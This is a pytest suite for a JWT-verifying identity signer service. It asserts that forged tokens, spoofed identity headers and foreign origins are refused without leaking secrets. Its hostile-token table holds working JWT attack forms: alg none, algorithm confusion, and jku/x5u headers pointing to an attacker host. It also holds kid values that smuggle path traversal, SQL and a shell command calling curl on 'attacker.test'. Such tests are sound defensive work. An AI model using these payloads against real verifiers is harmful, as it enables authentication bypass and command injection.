"""Security rules 1, 2 and 4: every hostile credential gets a generic 401 and leaves no trace.

Each case asserts the status, a body that is exactly the generic error (no user_hash,
no JWT), and logs free of the secret and of the token that was sent.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import random
import time
from collections.abc import Callable

import httpx
import jwt
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from intercom_signer.identity import identity_source
from intercom_signer.keys import FRESH_ENOUGH
from intercom_signer.settings import Settings
from intercom_signer.tokens import jws_segment
from tests.support.clock import ManualClock
from tests.support.forge import b64, compact, signed_raw
from tests.support.issuer import IssuerUnderTest
from tests.support.signer import SECRET, SITE, SignerUnderTest, signer_env

Forge = Callable[[IssuerUnderTest], str]


def _claims(issuer: IssuerUnderTest, **extra: object) -> dict[str, object]:
    now = int(time.time())
    return {
        "iss": issuer.url,
        "aud": "docs",
        "sub": "mallory",
        "iat": now,
        "exp": now + 600,
        **extra,
    }


def _hs256_with(key: bytes) -> Forge:
    def forge(issuer: IssuerUnderTest) -> str:
        header = {"alg": "HS256", "typ": "JWT", "kid": issuer.idp.rsa_kid}
        signing_input = f"{b64(header)}.{b64(_claims(issuer))}"
        mac = hmac.new(key, signing_input.encode(), hashlib.sha256).digest()
        return f"{signing_input}.{b64(mac)}"

    return forge


def _public_pem(issuer: IssuerUnderTest) -> bytes:
    key, _ = issuer.idp.keys[issuer.idp.rsa_kid]
    return key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )


def _public_jwk(issuer: IssuerUnderTest) -> bytes:
    jwk = next(k for k in issuer.idp.jwks()["keys"] if k["kid"] == issuer.idp.rsa_kid)
    return json.dumps(jwk).encode()


def _tamper(change: Callable[[str], str]) -> Forge:
    def forge(issuer: IssuerUnderTest) -> str:
        head, body, signature = issuer.idp.mint(_claims(issuer)).split(".")
        return f"{head}.{body}.{change(signature)}"

    return forge


def _flip_bit(signature: str) -> str:
    raw = bytearray(b64decode(signature))
    raw[10] ^= 0x01
    return b64(bytes(raw))


def _stray_bits(segment: str) -> str:
    """The same bytes, written with the unused low bits of the last character set."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    unused = {2: 0b1111, 3: 0b11}[len(segment) % 4]
    return segment[:-1] + alphabet[alphabet.index(segment[-1]) | unused]


def b64decode(segment: str) -> bytes:
    import base64

    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


def _attacker_signed(**header: object) -> Forge:
    """Signed by a key of the attacker's, pointing at it through a header."""

    def forge(issuer: IssuerUnderTest) -> str:
        attacker = ec.generate_private_key(ec.SECP256R1())
        return jwt.encode(
            _claims(issuer),
            attacker,
            algorithm="ES256",
            headers={"kid": issuer.idp.ec_kid, **header},
        )

    return forge


def _with_kid(kid: object) -> Forge:
    def forge(issuer: IssuerUnderTest) -> str:
        key, _ = issuer.idp.keys[issuer.idp.rsa_kid]
        return signed_raw(json.dumps(_claims(issuer)).encode(), key, "RS256", {"kid": kid})

    return forge


def _signed(claims: Callable[[IssuerUnderTest], dict[str, object]], **header: object) -> Forge:
    def forge(issuer: IssuerUnderTest) -> str:
        key, _ = issuer.idp.keys[issuer.idp.rsa_kid]
        payload = json.dumps(claims(issuer)).encode()
        return signed_raw(payload, key, "RS256", {"kid": issuer.idp.rsa_kid, **header})

    return forge


def _without(claim: str) -> Callable[[IssuerUnderTest], dict[str, object]]:
    def claims(issuer: IssuerUnderTest) -> dict[str, object]:
        base = _claims(issuer)
        del base[claim]
        return base

    return claims


def _duplicate_sub(issuer: IssuerUnderTest) -> str:
    key, _ = issuer.idp.keys[issuer.idp.rsa_kid]
    body = json.dumps(_claims(issuer))[:-1] + ', "sub": "victim"}'
    return signed_raw(body.encode(), key, "RS256", {"kid": issuer.idp.rsa_kid})


def _raw_payload(payload: bytes) -> Forge:
    def forge(issuer: IssuerUnderTest) -> str:
        key, _ = issuer.idp.keys[issuer.idp.rsa_kid]
        return signed_raw(payload, key, "RS256", {"kid": issuer.idp.rsa_kid})

    return forge


HOSTILE_TOKENS: dict[str, Forge] = {
    "alg none": lambda i: compact({"alg": "none", "kid": i.idp.rsa_kid}, _claims(i), b""),
    "alg None": lambda i: compact({"alg": "None", "kid": i.idp.rsa_kid}, _claims(i)),
    "alg NONE": lambda i: compact({"alg": "NONE", "kid": i.idp.rsa_kid}, _claims(i)),
    "HS256 keyed with the public PEM": lambda i: _hs256_with(_public_pem(i))(i),
    "HS256 keyed with the public JWK": lambda i: _hs256_with(_public_jwk(i))(i),
    "signature stripped": _tamper(lambda s: ""),
    # 342 - 13 characters: a length no base64 can have (a cut of 12 decodes, now and then).
    "signature truncated": _tamper(lambda s: s[:-13]),
    "signature bit-flipped": _tamper(_flip_bit),
    "signature with stray bits": _tamper(_stray_bits),
    "ES256 with r = s = 0": lambda i: compact(
        {"alg": "ES256", "kid": i.idp.ec_kid}, _claims(i), bytes(64)
    ),
    "embedded jwk": lambda i: _attacker_signed(
        jwk={"kty": "EC", "crv": "P-256", "x": "AA", "y": "AA"}
    )(i),
    "jku to the attacker": _attacker_signed(jku="https://attacker.test/jwks.json"),
    "x5u to the attacker": _attacker_signed(x5u="https://attacker.test/cert.pem"),
    "x5c chain of the attacker": _attacker_signed(x5c=["MIIBszCCAVmgAwIBAgIU"]),
    "kid path traversal": _with_kid("../../../../etc/passwd"),
    "kid SQL": _with_kid("' OR '1'='1' --"),
    "kid shell": _with_kid("$(curl attacker.test)|;`id`"),
    "kid of 10 KB": _with_kid("k" * 10_000),
    "kid a number": _with_kid(42),
    "kid an object": _with_kid({"$ne": None}),
    "expired": _signed(lambda i: _claims(i, exp=int(time.time()) - 120)),
    "nbf in the future": _signed(lambda i: _claims(i, nbf=int(time.time()) + 600)),
    "iat in the future": _signed(lambda i: _claims(i, iat=int(time.time()) + 600)),
    "exp missing": _signed(_without("exp")),
    "exp a string": _signed(lambda i: _claims(i, exp=str(int(time.time()) + 600))),
    "exp a boolean": _signed(lambda i: _claims(i, exp=True)),
    "wrong iss": _signed(lambda i: _claims(i, iss="https://other-issuer.test")),
    "iss a prefix of ours": _signed(lambda i: _claims(i, iss=i.url[:-1])),
    "iss ours plus a suffix": _signed(lambda i: _claims(i, iss=i.url + ".evil.test")),
    "iss missing": _signed(_without("iss")),
    "wrong aud": _signed(lambda i: _claims(i, aud="someone-else")),
    "aud list without ours": _signed(lambda i: _claims(i, aud=["a", "b"])),
    "aud missing": _signed(_without("aud")),
    "unknown crit": _signed(_claims, crit=["urn:example:policy"], **{"urn:example:policy": 1}),
    "duplicate claim keys": _duplicate_sub,
    "token over 8 KB": _signed(lambda i: _claims(i, padding="p" * 9000)),
    "malformed base64": lambda i: "e!!.e$$.sig",
    "two segments": lambda i: i.token().rsplit(".", 1)[0],
    "four segments": lambda i: i.token() + ".extra",
    "payload a JSON array": _raw_payload(b"[1, 2, 3]"),
    "payload a JSON string": _raw_payload(b'"reader-1"'),
    "payload deeply nested": _raw_payload(b"[" * 1500 + b"]" * 1500),
    "payload not UTF-8": _raw_payload(b'{"sub": "\xff\xfe"}'),
    "header not JSON": lambda i: f"{b64(b'not json')}.{i.token().split('.', 1)[1]}",
    "JWE compact (five parts)": lambda i: ".".join(
        [b64({"alg": "RSA-OAEP", "enc": "A256GCM"}), "a", "b", "c", "d"]
    ),
    "JWS JSON serialization": lambda i: json.dumps(
        {
            "payload": b64(_claims(i)),
            "signatures": [{"protected": b64({"alg": "RS256"}), "signature": "c2ln"}],
        }
    ),
    "sub missing": _signed(_without("sub")),
    "sub empty": _signed(lambda i: _claims(i, sub="")),
    "sub with control characters": _signed(lambda i: _claims(i, sub="alice\r\nX-Injected: 1")),
}

# Why each one is refused: the reason the signer logs (never shown to the client).
EXPECTED_REASON = {
    "alg none": "malformed",
    "alg None": "alg_not_allowed",
    "alg NONE": "alg_not_allowed",
    "HS256 keyed with the public PEM": "alg_not_allowed",
    "HS256 keyed with the public JWK": "alg_not_allowed",
    "signature stripped": "malformed",
    "signature truncated": "malformed",
    "signature bit-flipped": "bad_signature",
    "signature with stray bits": "malformed",
    "ES256 with r = s = 0": "bad_signature",
    "embedded jwk": "bad_signature",
    "jku to the attacker": "bad_signature",
    "x5u to the attacker": "bad_signature",
    "x5c chain of the attacker": "bad_signature",
    "kid path traversal": "unknown_kid",
    "kid SQL": "unknown_kid",
    "kid shell": "unknown_kid",
    "kid of 10 KB": "token_too_large",
    "kid a number": "bad_kid",
    "kid an object": "bad_kid",
    "expired": "expired",
    "nbf in the future": "not_yet_valid",
    "iat in the future": "not_yet_valid",
    "exp missing": "missing_claim",
    "exp a string": "bad_time_claim",
    "exp a boolean": "bad_time_claim",
    "wrong iss": "wrong_issuer",
    "iss a prefix of ours": "wrong_issuer",
    "iss ours plus a suffix": "wrong_issuer",
    "iss missing": "missing_claim",
    "wrong aud": "wrong_audience",
    "aud list without ours": "wrong_audience",
    "aud missing": "missing_claim",
    "unknown crit": "unknown_crit",
    "duplicate claim keys": "malformed",
    "token over 8 KB": "token_too_large",
    "malformed base64": "malformed",
    "two segments": "malformed",
    "four segments": "malformed",
    "payload a JSON array": "malformed",
    "payload a JSON string": "malformed",
    "payload deeply nested": "malformed",
    "payload not UTF-8": "malformed",
    "header not JSON": "malformed",
    "JWE compact (five parts)": "malformed",
    "JWS JSON serialization": "malformed",
    "sub missing": "no_user_id",
    "sub empty": "no_user_id",
    "sub with control characters": "no_user_id",
}


def _assert_refused(
    response: object, status: int, error: str, logs: str, token: str | None = None
) -> None:
    assert response.status_code == status  # type: ignore[attr-defined]
    assert response.json() == {"error": error}  # type: ignore[attr-defined]
    assert "user_hash" not in response.text
    assert "intercom_user_jwt" not in response.text
    assert SECRET not in logs
    if token:
        assert token not in logs
        assert token.split(".")[-1] not in logs or len(token.split(".")[-1]) < 8


@pytest.mark.parametrize("case", HOSTILE_TOKENS, ids=list(HOSTILE_TOKENS))
def test_hostile_token_gets_generic_401(
    case: str, issuer: IssuerUnderTest, signer: SignerUnderTest, signer_logs: object
) -> None:
    token = HOSTILE_TOKENS[case](issuer)
    response = signer.identity(token)
    logs = signer_logs.getvalue()  # type: ignore[attr-defined]
    _assert_refused(response, 401, "unauthenticated", logs, token)
    assert f'"reason":"{EXPECTED_REASON[case]}"' in logs


def _segment_corpus() -> list[bytes]:
    """Segments at every edge of base64url, and a seeded spray of near-misses."""
    corpus = [b"", b"=", b"==", b"===", b"A", b"A=", b"AA=", b"AAA==", b"AA==A", b"A=A="]
    for size in range(7):
        data = bytes(range(200, 200 + size))
        plain = base64.urlsafe_b64encode(data)
        corpus += [plain, plain.rstrip(b"="), plain + b"=", plain.rstrip(b"=") + b"="]
        if len(plain.rstrip(b"=")) % 4:
            corpus.append(_stray_bits(plain.rstrip(b"=").decode()).encode())
    corpus += [b"ab+c", b"ab/c", b"ab c", b"ab\nc", b"abc\n", b"ab.c", "abcé".encode()]
    spray = random.Random(9864)
    letters = b"Aa0-_=+/ \x00\xff"
    corpus += [
        bytes(spray.choice(letters) for _ in range(spray.randrange(12))) for _ in range(3000)
    ]
    return corpus


def test_segments_are_decoded_by_pyjwts_own_rule() -> None:
    """The signer's faster segment decoder accepts exactly what PyJWT's does, with the same
    bytes, and refuses the rest the same way."""

    def outcome(decode: Callable[[bytes, str], bytes], segment: bytes) -> bytes | str:
        try:
            return decode(segment, "payload")
        except jwt.DecodeError as error:
            return str(error)

    for segment in _segment_corpus():
        assert outcome(jws_segment, segment) == outcome(
            jwt.PyJWS._decode_base64url_segment, segment
        ), segment


def test_good_token_is_accepted_by_the_same_signer(
    issuer: IssuerUnderTest, signer: SignerUnderTest
) -> None:
    """The control for the suite above: the refusals are not the signer refusing everything."""
    response = signer.identity(issuer.token())
    assert response.status_code == 200
    assert response.json()["user_id"] == "reader-1"


def test_storm_of_unknown_kids_fetches_the_jwks_once(
    fresh_issuer: IssuerUnderTest, serve_signer: Callable[..., SignerUnderTest]
) -> None:
    clock = ManualClock()
    settings = Settings.from_env(signer_env(fresh_issuer.url))
    signer = serve_signer(fresh_issuer.url, {}, source=identity_source(settings, clock))
    assert signer.identity(fresh_issuer.token()).status_code == 200
    clock.advance(FRESH_ENOUGH)  # the keys are no longer taken as complete
    fetched_before = fresh_issuer.jwks_requests
    for n in range(40):
        assert signer.identity(_with_kid(f"unknown-{n}")(fresh_issuer)).status_code == 401
    assert fresh_issuer.jwks_requests - fetched_before == 1


def test_oversized_authorization_header_is_refused_without_identity(
    signer: SignerUnderTest, signer_logs: object
) -> None:
    for size in (12_000, 70_000):
        response = signer.identity("x" * size)
        assert (response.status_code, response.json()) == (401, {"error": "unauthenticated"})
    assert "x" * 100 not in signer_logs.getvalue()  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    ("how", "params", "headers", "content"),
    [
        ("query string", {"user_id": "victim", "email": "victim@example.com"}, {}, None),
        ("JSON body", None, {"Content-Type": "application/json"}, b'{"user_id": "victim"}'),
        ("X-User-Id header", None, {"X-User-Id": "victim"}, None),
        (
            "forwarded user headers",
            None,
            {
                "X-Forwarded-User": "victim",
                "X-Auth-Request-User": "victim",
                "Remote-User": "victim",
            },
            None,
        ),
        (
            "ALB identity header in jwt mode",
            None,
            {"X-Amzn-Oidc-Identity": "victim", "X-Amzn-Oidc-Data": "e30.e30.e30"},
            None,
        ),
    ],
)
def test_identity_named_by_the_request_is_never_used(
    how: str,
    params: object,
    headers: dict[str, str],
    content: bytes | None,
    signer: SignerUnderTest,
) -> None:
    response = signer.identity(None, params=params, headers=headers, content=content)
    assert response.status_code == 401
    assert response.json() == {"error": "unauthenticated"}


def test_query_string_cannot_change_a_verified_identity(
    issuer: IssuerUnderTest, signer: SignerUnderTest
) -> None:
    response = signer.identity(
        issuer.token(sub="alice"),
        params={"user_id": "victim", "sub": "victim"},
        headers={"X-User-Id": "victim"},
    )
    assert response.status_code == 200
    assert response.json()["user_id"] == "alice"


@pytest.mark.parametrize(
    ("verified", "status"), [(None, 401), (False, 401), ("false", 401), (True, 200)]
)
def test_email_is_an_identity_only_when_verified(
    verified: object,
    status: int,
    issuer: IssuerUnderTest,
    start_signer: Callable[..., SignerUnderTest],
) -> None:
    signer = start_signer(issuer.url, SIGNER_USER_ID_CLAIM="email")
    claims: dict[str, object] = {"email": "reader@example.com"}
    if verified is not None:
        claims["email_verified"] = verified
    token = issuer.idp.mint({"sub": "reader-1", **claims})
    response = signer.identity(token)
    assert response.status_code == status
    if status == 200:
        assert response.json()["user_id"] == "reader@example.com"


FOREIGN_ORIGINS = [
    "null",
    "http://docs.example.com",
    "https://docs.example.com:8443",
    "https://docs.example.com.evil.test",
    "https://evil.test",
]


@pytest.mark.parametrize("origin", FOREIGN_ORIGINS)
def test_foreign_origin_gets_403_and_no_cors_grant(
    origin: str, issuer: IssuerUnderTest, signer: SignerUnderTest, signer_logs: object
) -> None:
    token = issuer.token()
    response = signer.identity(token, headers={"Origin": origin})
    _assert_refused(response, 403, "origin_not_allowed", signer_logs.getvalue(), token)  # type: ignore[attr-defined]
    assert "access-control-allow-origin" not in response.headers
    assert "access-control-allow-credentials" not in response.headers


def _preflight(signer: SignerUnderTest, origin: str) -> httpx.Response:
    """A browser's preflight for a GET with an Authorization header, from `origin`."""
    return signer.identity(
        None,
        method="OPTIONS",
        headers={
            "Origin": origin,
            "Access-Control-Request-Method": "GET",
            "Access-Control-Request-Headers": "authorization",
        },
    )


@pytest.mark.parametrize("origin", FOREIGN_ORIGINS)
def test_preflight_from_foreign_origin_is_refused(origin: str, signer: SignerUnderTest) -> None:
    response = _preflight(signer, origin)
    assert response.status_code == 403
    assert "access-control-allow-origin" not in response.headers


def test_preflight_from_allowed_origin_grants_get_with_credentials(signer: SignerUnderTest) -> None:
    response = _preflight(signer, SITE)
    assert response.status_code == 204
    assert response.headers["access-control-allow-origin"] == SITE
    assert response.headers["access-control-allow-credentials"] == "true"
    assert response.headers["access-control-allow-methods"] == "GET"
    assert "authorization" in response.headers["access-control-allow-headers"].lower()


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE", "HEAD", "TRACE"])
def test_methods_other_than_get_and_options_get_405(
    method: str, issuer: IssuerUnderTest, signer: SignerUnderTest
) -> None:
    response = signer.identity(issuer.token(), method=method)
    assert response.status_code == 405
    assert "user_hash" not in response.text
    assert response.headers["cache-control"] == "no-store"


@pytest.mark.parametrize(
    ("claims", "status"),
    [
        ({"aud": ["docs", "another-client"], "azp": "another-client"}, 401),  # issued to them
        ({"aud": ["docs", "another-client"], "azp": "docs"}, 200),  # issued to us
        ({"aud": ["docs", "another-client"]}, 200),  # no azp: nothing to hold it to
        ({"aud": ["docs"], "azp": "another-client"}, 200),  # one audience: ours
        # An access token names in azp the client that asked for it: another app by design.
        ({"aud": ["docs", "userinfo"], "azp": "spa-client", "scope": "openid"}, 200),
    ],
    ids=["foreign-azp", "our-azp", "no-azp", "single-aud", "access-token"],
)
def test_an_id_token_for_several_audiences_must_have_been_issued_to_us(
    claims: dict[str, object], status: int, issuer: IssuerUnderTest, signer: SignerUnderTest
) -> None:
    # OIDC Core 3.1.3.7: a token another client obtained, whose aud also lists ours.
    assert signer.identity(issuer.token(**claims)).status_code == status
